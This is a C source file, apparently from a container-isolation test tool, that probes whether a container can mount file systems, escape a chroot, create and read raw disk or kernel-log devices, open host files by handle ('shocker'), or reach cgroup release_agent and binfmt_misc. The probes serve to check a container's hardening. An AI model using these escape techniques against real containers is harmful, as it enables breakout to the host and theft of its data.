/* Attacks on what the container sees: mounts old and new, roots, handles, devices, cgroups. */
#include "attack.h"
#include <dirent.h>
#include <limits.h>
#include <linux/mount.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

/* Mounts on /tmp, which every image has, and takes it away again. */
static int mount_on_tmp(const char *source, const char *type, unsigned long flags, const char *data)
{
	int error = answer(mount(source, "/tmp", type, flags, data));
	if (!error)
		umount2("/tmp", MNT_DETACH);
	return error;
}

static int attack_mount(int argc, char **argv)
{
	return mount_on_tmp("none", argument(argc, argv, "tmpfs"), 0, NULL);
}

static int attack_bind(int argc, char **argv)
{
	return mount_on_tmp(argument(argc, argv, "/"), NULL, MS_BIND | MS_REC, NULL);
}

static int attack_overlay(int argc, char **argv)
{
	return mount_on_tmp("none", "overlay", 0, "lowerdir=/bin:/etc");
}

/* Makes the parent's mounts hear of ours. */
static int attack_shared(int argc, char **argv)
{
	return answer(mount(NULL, "/", NULL, MS_SHARED, NULL));
}

static int attack_remount(int argc, char **argv)
{
	return answer(mount(NULL, argument(argc, argv, "/"), NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int attack_fsopen(int argc, char **argv)
{
	return answer(syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC));
}

/* The calls below are asked with no descriptor, which is noticed after the permission. */
CALL(attack_fsconfig, EINVAL, SYS_fsconfig, -1, FSCONFIG_CMD_CREATE, NULL, NULL, 0)
CALL(attack_fsmount, EBADF, SYS_fsmount, -1, 0, 0)
CALL(attack_fspick, 0, SYS_fspick, AT_FDCWD, "/", FSPICK_CLOEXEC)
CALL(attack_move_mount, EBADF, SYS_move_mount, -1, "x", -1, "x", 0)

static int attack_mount_setattr(int argc, char **argv)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_NOEXEC};
	return answer(syscall(SYS_mount_setattr, AT_FDCWD, argument(argc, argv, "/"), 0, &attr,
			      sizeof attr));
}

static int attack_open_tree(int argc, char **argv)
{
	return answer(syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC));
}

static int attack_umount(int argc, char **argv)
{
	return answer(umount2(argument(argc, argv, "/dev/mqueue"), MNT_DETACH));
}

static int attack_chroot(int argc, char **argv)
{
	return answer(chroot(argument(argc, argv, "/")));
}

/* The old way out of a chroot: another root below, and then up from the directory left outside. */
static int attack_chroot_escape(int argc, char **argv)
{
	struct stat before, after;
	if (stat("/", &before) < 0 || chdir("/") < 0 || chroot("/proc") < 0)
		return errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return errno;
	if (chroot(".") < 0 || stat("/", &after) < 0)
		return errno;
	return before.st_ino == after.st_ino ? 0 : EXDEV;
}

/* Not a mount of its own, which is noticed after the permission. */
CALL(attack_pivot_root, EINVAL, SYS_pivot_root, "/etc", "/etc")

static int attack_mknod(int argc, char **argv)
{
	const char *path = argument(argc, argv, "/tmp/hostile-device");
	int error = answer(mknod(path, S_IFCHR | 0600, makedev(1, 3)));
	if (!error)
		unlink(path);
	return error;
}

/* A node for the machine's first disk, in DIRECTORY, opened and read. */
static int attack_raw_disk(int argc, char **argv)
{
	char line[256], path[PATH_MAX], byte;
	unsigned int disk_major = 0, disk_minor = 0;
	unsigned long long blocks = 0;
	FILE *partitions = fopen("/proc/partitions", "r");
	while (partitions && fgets(line, sizeof line, partitions))
		if (sscanf(line, "%u %u %llu", &disk_major, &disk_minor, &blocks) == 3 && blocks > 0)
			break;
	if (partitions)
		fclose(partitions);
	if (!blocks)
		return ENXIO;
	snprintf(path, sizeof path, "%s/hostile-disk", argument(argc, argv, "/tmp"));
	if (mknod(path, S_IFBLK | 0600, makedev(disk_major, disk_minor)) < 0)
		return errno;
	int disk = open(path, O_RDONLY | O_CLOEXEC);
	int error = disk < 0 ? errno : answer(read(disk, &byte, 1));
	unlink(path);
	return error;
}

/* A node for the kernel's log in DIRECTORY, opened and read. */
static int attack_device(int argc, char **argv)
{
	char path[PATH_MAX], record[8192];
	snprintf(path, sizeof path, "%s/hostile-kmsg", argument(argc, argv, "/tmp"));
	if (mknod(path, S_IFCHR | 0600, makedev(1, 11)) < 0)
		return errno;
	int log = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	int error = log < 0 ? errno : answer(read(log, record, sizeof record));
	unlink(path);
	return error;
}

struct handle {
	struct file_handle head;
	char rest[MAX_HANDLE_SZ];
};

static int attack_name_to_handle(int argc, char **argv)
{
	struct handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
	int mount_id;
	return answer(name_to_handle_at(AT_FDCWD, argument(argc, argv, "/dev/shm"), &handle.head,
					&mount_id, 0));
}

/* An overlay has no handles to open: the default is a file system that has. */
static int attack_open_by_handle(int argc, char **argv)
{
	struct handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
	const char *path = argument(argc, argv, "/dev/shm");
	int mount_id;
	if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0)
		return errno;
	int dir = open(path, O_RDONLY | O_CLOEXEC);
	return dir < 0 ? errno : answer(open_by_handle_at(dir, &handle.head, O_RDONLY | O_CLOEXEC));
}

/* The root of a volume's own file system, by its number: 2 on ext4, whatever directory is mounted. */
static int attack_shocker(int argc, char **argv)
{
	struct handle handle = {.head.handle_bytes = 8, .head.handle_type = 1};
	unsigned int root[2] = {2, 0};
	memcpy(handle.head.f_handle, root, sizeof root);
	int dir = open(argument(argc, argv, "/volume"), O_RDONLY | O_CLOEXEC);
	return dir < 0 ? errno : answer(open_by_handle_at(dir, &handle.head, O_RDONLY | O_CLOEXEC));
}

/* Opened for writing, never written: a permitted open is the escape. */
static int open_for_writing(const char *path)
{
	return answer(open(path, O_WRONLY | O_CLOEXEC));
}

/* FILE in any cgroup directory that is mounted. */
static int attack_cgroup_file(int argc, char **argv)
{
	const char *file = argument(argc, argv, "release_agent");
	char path[PATH_MAX];
	int error = ENOENT;
	DIR *dir = opendir("/sys/fs/cgroup");
	if (!dir)
		return errno;
	for (struct dirent *entry; (entry = readdir(dir));) {
		if (!strcmp(entry->d_name, ".."))
			continue;
		snprintf(path, sizeof path, "/sys/fs/cgroup/%s/%s", entry->d_name, file);
		int tried = open_for_writing(path);
		if (tried == 0)
			return 0;
		if (tried != ENOENT && tried != ENOTDIR)
			error = tried;
	}
	closedir(dir);
	return error;
}

/* Mounts a version 1 hierarchy again, where its root is the host's. ENODEV: there is none. */
static int attack_release_agent(int argc, char **argv)
{
	char line[512];
	int error = ENODEV;
	FILE *groups = fopen("/proc/self/cgroup", "r");
	if (!groups)
		return errno;
	while (error && fgets(line, sizeof line, groups)) {
		char *name = strchr(line, ':'), *end = name ? strchr(name + 1, ':') : NULL;
		if (!end || end == name + 1)
			continue;
		*end = 0;
		error = answer(mount("cgroup", "/tmp", "cgroup", 0, name + 1));
		if (error)
			continue;
		error = open_for_writing("/tmp/release_agent");
		umount2("/tmp", MNT_DETACH);
	}
	fclose(groups);
	return error;
}

/* Registers nothing: an interpreter for foreign programs would run with their privileges. */
static int attack_binfmt(int argc, char **argv)
{
	int error = answer(mount("binfmt_misc", "/tmp", "binfmt_misc", 0, NULL));
	if (error)
		return error;
	error = open_for_writing("/tmp/register");
	umount2("/tmp", MNT_DETACH);
	return error;
}

const struct attack mount_attacks[] = {
	{"mount", attack_mount, "mount a file system of TYPE (tmpfs)"},
	{"bind", attack_bind, "bind PATH (/) elsewhere"},
	{"overlay", attack_overlay, "mount an overlay"},
	{"shared", attack_shared, "make the root's mount propagate"},
	{"remount", attack_remount, "remount PATH (/) writable and executable"},
	{"fsopen", attack_fsopen, "start a mount through the new calls"},
	{"fsconfig", attack_fsconfig, "configure a mount"},
	{"fsmount", attack_fsmount, "make a mount"},
	{"fspick", attack_fspick, "reconfigure the root's file system"},
	{"move-mount", attack_move_mount, "put a mount into the tree"},
	{"mount-setattr", attack_mount_setattr, "take noexec from PATH (/)"},
	{"open-tree", attack_open_tree, "clone the mount tree"},
	{"umount", attack_umount, "unmount PATH (/dev/mqueue)"},
	{"chroot", attack_chroot, "chroot to PATH (/)"},
	{"chroot-escape", attack_chroot_escape, "chroot twice and climb"},
	{"pivot-root", attack_pivot_root, "pivot_root in place"},
	{"mknod", attack_mknod, "make a device at PATH"},
	{"raw-disk", attack_raw_disk, "make and read a node of the first disk in DIRECTORY (/tmp)"},
	{"device", attack_device, "make and read a node of the kernel's log in DIRECTORY (/tmp)"},
	{"name-to-handle", attack_name_to_handle, "ask for the handle of PATH (/dev/shm)"},
	{"open-by-handle", attack_open_by_handle, "open PATH (/dev/shm) by its handle"},
	{"shocker", attack_shocker, "open inode 2 of the file system of PATH (/volume)"},
	{"cgroup-file", attack_cgroup_file, "open FILE (release_agent) of a cgroup for writing"},
	{"release-agent", attack_release_agent, "mount cgroups again and open release_agent"},
	{"binfmt", attack_binfmt, "mount binfmt_misc and open its register"},
	{NULL, NULL, NULL},
};
